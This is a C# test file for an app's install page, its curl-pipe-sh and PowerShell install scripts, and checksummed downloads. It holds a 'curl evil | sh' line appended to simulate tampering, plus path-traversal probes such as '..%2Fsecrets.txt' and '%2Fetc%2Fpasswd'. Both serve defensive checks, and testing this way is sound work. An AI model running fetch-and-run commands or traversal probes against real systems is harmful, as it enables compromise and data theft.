using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Extensions.Configuration;
using TeamCost.Web.Features.Installs;
using TeamCost.Web.Platform.Database;
using TeamCost.Web.Tests.Support;

namespace TeamCost.Web.Tests.Features.Installs;

/// <summary>The install page, the two scripts and the files; the shell script is run for real, in a home of its own.</summary>
public sealed class InstallsTests : IAsyncLifetime
{
    private readonly string _folder = Directory.CreateTempSubdirectory("teamcost-downloads-").FullName;
    private readonly string _home = Directory.CreateTempSubdirectory("teamcost-visitor-").FullName;
    private TestApp _app = null!;

    public async Task InitializeAsync()
    {
        // Stands in for the published file: a real program that answers --version.
        foreach (var rid in new[] { "linux-x64", "linux-arm64", "linux-musl-x64", "osx-arm64", "osx-x64" })
        {
            Publish($"teamcost-0.9.0-{rid}", "#!/bin/sh\necho 0.9.0\n");
            Publish($"teamcost-0.10.0-{rid}", $"#!/bin/sh\necho 0.10.0 # {rid}\n");
        }

        Publish("teamcost-0.10.0-win-x64.exe", "MZ");
        Publish("TeamCost.Cli.0.10.0.nupkg", "PK");
        _app = await TestApp.StartAsync(null, ownDatabase: false, ("TeamCost:Downloads:Folder", _folder));
    }

    public async Task DisposeAsync()
    {
        await _app.DisposeAsync();
        Directory.Delete(_folder, recursive: true);
        Directory.Delete(_home, recursive: true);
    }

    [Fact]
    public async Task The_one_liner_installs_the_newest_file_into_the_persons_own_folder()
    {
        var (code, said) = await InstallAsync();

        code.ShouldBe(0, said);
        said.ShouldContain("teamcost 0.10.0 is in");
        said.ShouldContain("not on your PATH");
        said.ShouldContain($"teamcost login --server {Server}");
        Directory.GetFiles(Path.Combine(_home, ".local", "bin")).ShouldBe([Path.Combine(_home, ".local", "bin", "teamcost")]);
        File.GetUnixFileMode(Path.Combine(_home, ".local", "bin", "teamcost")).HasFlag(UnixFileMode.UserExecute).ShouldBeTrue();
        (await InstallAsync()).Code.ShouldBe(0, "again, over the old one");
    }

    [Fact]
    public async Task A_file_that_was_tampered_with_is_refused_and_what_was_there_stays()
    {
        await InstallAsync();
        foreach (var file in Directory.GetFiles(_folder, "teamcost-0.10.0-*"))
        {
            await File.AppendAllTextAsync(file, "curl evil | sh\n");
        }

        var (code, said) = await InstallAsync();

        code.ShouldBe(1);
        said.ShouldContain("not the file that was published");
        var installed = Directory.GetFiles(Path.Combine(_home, ".local", "bin")).ShouldHaveSingleItem();
        (await File.ReadAllTextAsync(installed)).ShouldNotContain("evil");
    }

    [Fact]
    public async Task A_script_that_was_cut_off_on_its_way_does_nothing()
    {
        var script = await GetAsync("/install.sh");

        foreach (var part in new[] { 4, 2 })
        {
            await RunAsync(script[..(script.Length - (script.Length / part))]);
        }

        Directory.Exists(Path.Combine(_home, ".local")).ShouldBeFalse();
    }

    [Fact]
    public async Task Both_scripts_hold_the_servers_address_and_the_checksums()
    {
        var (shell, power) = (await GetAsync("/install.sh"), await GetAsync("/install.ps1"));

        shell.ShouldContain($"server='{Server}'");
        shell.ShouldContain($"linux-x64) file=teamcost-0.10.0-linux-x64 sum={SumOf("teamcost-0.10.0-linux-x64")} ;;");
        shell.ShouldNotContain("0.9.0");
        power.ShouldContain($"'win-x64' = @('teamcost-0.10.0-win-x64.exe', '{SumOf("teamcost-0.10.0-win-x64.exe")}')");
        (shell + power).ShouldNotContain("@@");
    }

    [Fact]
    public async Task Only_what_the_checksums_name_can_be_downloaded()
    {
        await File.WriteAllTextAsync(Path.Combine(_folder, "teamcost-0.11.0-linux-x64"), "not published");
        await File.WriteAllTextAsync(Path.Combine(_folder, "secrets.txt"), "secret");

        (await StatusAsync("/downloads/teamcost-0.10.0-linux-x64")).ShouldBe(HttpStatusCode.OK);
        (await StatusAsync("/downloads/SHA256SUMS")).ShouldBe(HttpStatusCode.OK);
        foreach (var path in new[] { "/downloads/teamcost-0.11.0-linux-x64", "/downloads/secrets.txt", "/downloads/..%2Fsecrets.txt", "/downloads/", "/downloads/%2Fetc%2Fpasswd" })
        {
            (await StatusAsync(path)).ShouldBe(HttpStatusCode.NotFound, path);
        }
    }

    [Theory]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Windows", "irm ")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5)", "macOS", "curl -fsSL ")]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64)", "Linux", "curl -fsSL ")]
    public async Task The_page_speaks_to_the_visitors_system_and_shows_files_and_checksums(string browser, string system, string line)
    {
        using var client = _app.NewClient();
        client.DefaultRequestHeaders.UserAgent.ParseAdd(browser);
        using var response = await client.GetAsync(new Uri("/install", UriKind.Relative));
        var page = await Answer.OfAsync(response);

        page.Find("#own").TextContent.ShouldBe(system);
        page.Find("#line-own").TextContent.ShouldStartWith(line + Server);
        page.Find("[data-testid=downloads]").TextContent.ShouldContain(SumOf("teamcost-0.10.0-win-x64.exe"));
        page.Find("#line-tool").TextContent.ShouldContain("dotnet tool install");
        page.Find("#line-uninstall").TextContent.ShouldContain("autosync disable");
    }

    [Fact]
    public async Task Without_files_the_page_leads_to_the_tool_package_and_the_script_says_so()
    {
        await using var scope = new AppWithoutFiles(await TestApp.StartAsync());
        using var client = scope.App.NewClient();
        using var response = await client.GetAsync(new Uri("/install", UriKind.Relative));

        (await Answer.OfAsync(response)).Find("[data-testid=own-system]").TextContent.ShouldContain("dotnet tool install");
        var (code, said) = await RunAsync(await client.GetStringAsync(new Uri("/install.sh", UriKind.Relative)));
        (code, said.Contains("has no file for", StringComparison.Ordinal)).ShouldBe((1, true));
    }

    [Fact]
    public void A_folder_that_does_not_exist_stops_the_start()
    {
        var settings = new ConfigurationBuilder().AddInMemoryCollection([KeyValuePair.Create<string, string?>(DownloadFolder.Setting, "/nowhere/at/all")]).Build();

        Should.Throw<StartupException>(() => new DownloadFolder(settings)).Message.ShouldContain(DownloadFolder.Setting);
    }

    private string Server => _app.Address.OriginalString.TrimEnd('/');

    private void Publish(string name, string text)
    {
        File.WriteAllText(Path.Combine(_folder, name), text);
        File.AppendAllText(Path.Combine(_folder, "SHA256SUMS"), string.Create(CultureInfo.InvariantCulture, $"{Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(text)))}  {name}\n"));
    }

    private string SumOf(string name) => File.ReadLines(Path.Combine(_folder, "SHA256SUMS")).Single(line => line.EndsWith("  " + name, StringComparison.Ordinal))[..64];

    private async Task<string> GetAsync(string path)
    {
        using var client = _app.NewClient();
        return await client.GetStringAsync(new Uri(path, UriKind.Relative));
    }

    private async Task<HttpStatusCode> StatusAsync(string path)
    {
        using var client = _app.NewClient();
        using var response = await client.GetAsync(new Uri(path, UriKind.Relative));
        return response.StatusCode;
    }

    private async Task<(int Code, string Said)> InstallAsync() => await RunAsync(await GetAsync("/install.sh"));

    // As "curl … | sh" does it: the script comes by standard input.
    private async Task<(int Code, string Said)> RunAsync(string script)
    {
        var start = new ProcessStartInfo("sh") { UseShellExecute = false, RedirectStandardInput = true, RedirectStandardError = true, RedirectStandardOutput = true };
        start.Environment["HOME"] = _home;
        start.Environment.Remove("TEAMCOST_INSTALL_DIR");
        using var shell = Process.Start(start)!;
        var errors = shell.StandardError.ReadToEndAsync();
        var output = shell.StandardOutput.ReadToEndAsync();
        try
        {
            await shell.StandardInput.WriteAsync(script);
            shell.StandardInput.Close();
        }
        catch (IOException)
        {
            // It ended before it had read everything.
        }

        await shell.WaitForExitAsync();
        return (shell.ExitCode, await output + await errors);
    }

    private sealed class AppWithoutFiles(TestApp app) : IAsyncDisposable
    {
        public TestApp App => app;

        public async ValueTask DisposeAsync() => await app.DisposeAsync();
    }
}
